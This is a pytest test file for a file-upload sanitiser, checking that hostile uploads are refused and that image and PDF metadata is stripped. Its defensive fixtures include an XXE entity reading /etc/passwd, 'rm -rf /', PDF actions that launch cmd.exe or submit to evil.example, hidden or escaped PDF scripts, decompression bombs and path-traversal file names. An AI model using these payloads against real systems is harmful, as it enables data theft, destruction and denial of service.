"""Uploaded files: good ones come through clean, hostile ones do not come through."""

import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

import pytest
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from specie.platform.files import MAX_FILE_BYTES, FileRefused, FileTooLarge, display_name, sanitise

CANARY = b"CANARY-6-July-Jakarta"


def jpeg(width: int = 40, height: int = 20, mode: str = "RGB", **options: object) -> bytes:
    out = BytesIO()
    Image.new(mode, (width, height), 128 if mode == "L" else None).save(out, "JPEG", **options)
    return out.getvalue()


def png(width: int = 40, height: int = 20, mode: str = "RGB", **options: object) -> bytes:
    out = BytesIO()
    Image.new(mode, (width, height)).save(out, "PNG", **options)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def archive(name: str = "word/document.xml") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(name, "<x/>")
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def action(kind: str, **more: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in more.items():
        made[NameObject(f"/{key}")] = TextStringObject(value)
    return made


def opening(kind: str, **more: str) -> bytes:
    return pdf(lambda writer: writer.root_object.update({NameObject("/OpenAction"): action(kind, **more)}))


def named_scripts() -> bytes:
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject()})
    return pdf(lambda writer: writer.root_object.update({NameObject("/Names"): names}))


def annotation(subtype: str) -> bytes:
    def add(writer: PdfWriter) -> None:
        note = DictionaryObject({NameObject("/Subtype"): NameObject(subtype)})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([note])

    return pdf(add)


def script_hidden_in_an_object_stream() -> bytes:
    """An action packed into a compressed object stream, where a search of the raw bytes cannot see it."""
    objects = b"5 0 << /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(objects)
    parts = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n",
    ]
    out, offsets = b"%PDF-1.5\n", []
    for part in parts:
        offsets.append(len(out))
        out += part
    rows = [struct.pack(">BIB", 0, 0, 255), *(struct.pack(">BIB", 1, offset, 0) for offset in offsets)]
    rows += [struct.pack(">BIB", 2, 4, 0), struct.pack(">BIB", 1, len(out), 0)]
    table = b"".join(rows)
    head = b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    return out + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def type_behind_a_reference() -> bytes:
    def add(writer: PdfWriter) -> None:
        kind = writer._add_object(NameObject("/Launch"))
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): kind})

    return pdf(add).replace(b"/Launch", b"/L#61unch")


def deep_array() -> bytes:
    return pdf().replace(b"/MediaBox", b"/Deep " + b"[" * 20_000 + b"]" * 20_000 + b" /MediaBox")


def apng_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY.decode())
    info.add_text("Packed", CANARY.decode(), zip=True)
    return png(pnginfo=info)


def text_bomb() -> bytes:
    bomb = b"Comment\x00\x00" + zlib.compress(bytes(80_000_000))
    good = png()
    return good[:33] + chunk(b"zTXt", bomb) + good[33:]


HOSTILE: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "a.jpg"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.svg"),
    "svg called png": (b"<?xml version='1.0'?><svg/>", "a.png"),
    "html": (b"<!doctype html><script>alert(1)</script>", "a.html"),
    "xml with entity": (b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "a.xml"),
    "gif": (b"GIF89a" + bytes(50), "a.gif"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + bytes(50), "a.heic"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(50), "a.webp"),
    "tiff": (b"II*\x00" + bytes(50), "a.tif"),
    "zip": (archive(), "a.zip"),
    "office": (archive("[Content_Types].xml"), "a.docx"),
    "executable called jpg": (b"MZ" + bytes(200), "a.jpg"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "a.jpg"),
    "jpeg called pdf": (jpeg(), "a.pdf"),
    "jpeg called exe": (jpeg(), "a.jpg.exe"),
    "png called jpg": (png(), "a.jpg"),
    "jpeg magic alone": (b"\xff\xd8\xff\xe0" + bytes(100), "a.jpg"),
    "jpeg cut off": (jpeg(400, 400)[:-500], "a.jpg"),
    "png cut off": (png(400, 400)[:60], "a.png"),
    "png with a wrong checksum": (png().replace(b"IHDR\x00\x00\x00\x28", b"IHDR\x00\x00\x00\x29"), "a.png"),
    "png of 10 gigapixels": (huge_png(100_000, 100_000), "a.png"),
    "png of 26 megapixels": (huge_png(6500, 4001), "a.png"),
    "png with a text bomb": (text_bomb(), "a.png"),
    "pdf after other bytes": (b"MZ" + pdf(), "a.pdf"),
    "pdf magic alone": (b"%PDF-1.7\n%%EOF", "a.pdf"),
    "pdf cut off": (pdf()[:200], "a.pdf"),
    "pdf without pages": (pdf().replace(b"/Kids", b"/Nope").replace(b"/Count 1", b"/Count 0"), "a.pdf"),
    "pdf with javascript": (named_scripts(), "a.pdf"),
    "pdf with an opening script": (opening("/JavaScript", JS="app.alert(1)"), "a.pdf"),
    "pdf with an escaped script": (opening("/JavaScript").replace(b"/JavaScript", b"/J#61vaScript"), "a.pdf"),
    "pdf with a packed script": (script_hidden_in_an_object_stream(), "a.pdf"),
    "pdf with a launch action": (opening("/Launch", F="cmd.exe"), "a.pdf"),
    "pdf with a hidden type": (type_behind_a_reference(), "a.pdf"),
    "pdf that submits a form": (opening("/SubmitForm", F="https://evil.example"), "a.pdf"),
    "pdf that opens another file": (opening("/GoToR", F="\\\\evil\\share"), "a.pdf"),
    "pdf with a file inside": (pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "a.pdf"),
    "pdf with a file annotation": (annotation("/FileAttachment"), "a.pdf"),
    "pdf with a film": (annotation("/RichMedia"), "a.pdf"),
    "pdf encrypted": (pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128")), "a.pdf"),
    "pdf with an empty password": (pdf(lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")), "a.pdf"),
    "pdf and zip": (pdf() + archive(), "a.pdf"),
    "pdf and zip in its comment": (pdf() + archive()[:-2] + b"\x06\x00%%EOF\n", "a.pdf"),
    "pdf and web page": (pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<script>alert(1)</script>\n"), "a.pdf"),
    "pdf with deep nesting": (deep_array(), "a.pdf"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused(case: str) -> None:
    data, name = HOSTILE[case]
    with pytest.raises(FileRefused) as refused:
        sanitise(data, name)
    assert (refused.value.code, refused.value.status, refused.value.param) == ("file_type", 422, "file")


@pytest.mark.parametrize(
    "data",
    [
        jpeg() + b"<html><script>" + CANARY + b"</script>",
        jpeg() + archive() + CANARY,
        jpeg(comment=CANARY),
        jpeg(exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01\x010\x00\x02\x00\x00\x00\x16\x00\x00\x00\x1a" + CANARY),
        jpeg(icc_profile=CANARY * 20),
        jpeg(xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"),
        png() + archive() + CANARY,
        apng_with_text(),
        png(icc_profile=CANARY * 20),
        png(save_all=True, append_images=[Image.new("RGB", (40, 20), "red")]) + CANARY,
    ],
    ids=["jpeg+html", "jpeg+zip", "comment", "exif", "icc", "xmp", "png+zip", "png text", "png icc", "apng"],
)
def test_what_hides_in_a_picture_stays_behind(data: bytes) -> None:
    clean = sanitise(data, "")
    assert CANARY not in clean.data
    with Image.open(BytesIO(clean.data)) as picture:
        picture.load()
        assert picture.size == (40, 20)
        assert not picture.getexif()
        assert not {"comment", "icc_profile", "xmp", "Comment", "Packed", "exif"} & set(picture.info)
        assert getattr(picture, "n_frames", 1) == 1


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (jpeg(), "image/jpeg"),
        (jpeg(mode="L"), "image/jpeg"),
        (jpeg(mode="CMYK"), "image/jpeg"),
        (png(), "image/png"),
        (png(mode="P"), "image/png"),
        (png(mode="1"), "image/png"),
        (png(mode="I;16"), "image/png"),
        (png(mode="RGBA"), "image/png"),
        (pdf(), "application/pdf"),
    ],
)
def test_an_ordinary_file_is_accepted(data: bytes, media_type: str) -> None:
    assert sanitise(data, "").media_type == media_type


def test_a_picture_is_turned_upright_before_its_orientation_is_forgotten() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(BytesIO(sanitise(jpeg(40, 20, exif=exif), "a.jpg").data)) as picture:
        assert picture.size == (20, 40)


def test_a_transparent_picture_stays_transparent() -> None:
    with Image.open(BytesIO(sanitise(png(mode="RGBA"), "a.png").data)) as picture:
        assert picture.getpixel((0, 0)) == (0, 0, 0, 0)


def test_a_harmless_pdf_passes_unchanged() -> None:
    def add(writer: PdfWriter) -> None:
        content = DecodedStreamObject()
        content.set_data(b"BT ET")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(content)
        writer.add_outline_item(title="First", page_number=0)
        writer.add_metadata({"/Title": "Passport"})

    data = pdf(add)
    clean = sanitise(data, "Passport.PDF")
    assert clean.data == data
    assert len(PdfReader(BytesIO(clean.data)).pages) == 1


def test_a_file_above_ten_megabytes_is_too_large() -> None:
    with pytest.raises(FileTooLarge) as refused:
        sanitise(jpeg() + bytes(MAX_FILE_BYTES), "a.jpg")
    assert (refused.value.code, refused.value.status) == ("file_too_large", 413)


def test_too_many_pixels_are_refused_before_they_are_decoded() -> None:
    tracemalloc.start()
    try:
        with pytest.raises(FileRefused, match="25 megapixels"):
            sanitise(huge_png(8000, 8000), "a.png")
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("KTP Siti.jpg", "KTP Siti.jpg"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\siti\\ktp.png", "ktp.png"),
        ("a\x00b\r\nc.jpg", "abc.jpg"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("", "file"),
        ("///", "file"),
        ("x" * 500, "x" * 120),
        ("Žofie\u0301.pdf", "Žofié.pdf"),
    ],
)
def test_a_name_becomes_harmless_text(given: str, shown: str) -> None:
    assert display_name(given) == shown
